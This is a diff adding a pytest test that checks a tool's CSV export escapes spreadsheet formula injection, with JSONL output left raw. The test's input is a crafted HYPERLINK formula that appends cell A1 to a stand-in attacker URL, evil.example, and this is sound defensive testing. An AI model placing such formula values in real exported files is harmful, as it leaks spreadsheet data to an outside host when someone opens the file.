@@ -120,6 +120,19 @@ def test_exports_say_everything(failing: Operated, tmp_path: Path) -> None:
     assert rows == [{name: str(value) for name, value in document.items()} for document in documents]
 
 
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_a_spreadsheet_sees_no_formula(begin: str, failing: Operated, tmp_path: Path) -> None:
+    key = f'{begin}HYPERLINK("https://evil.example/"&A1).jpg'
+    failing.fail(key, at="2026-01-31T08:00:09.000Z")
+    run("--export", "failed.csv", "--limit", "1")
+    run("--export", "failed.jsonl", "--limit", "1")
+    with (tmp_path / "failed.csv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["key"] == f"'{key}"
+    assert row["detail"] == f"'{key} is no image"
+    assert json.loads((tmp_path / "failed.jsonl").read_text(encoding="utf-8"))["key"] == key
+
+
 @pytest.mark.usefixtures("failing")
 def test_an_export_writes_nothing_over(tmp_path: Path) -> None:
     (tmp_path / "failed.csv").write_text("precious")
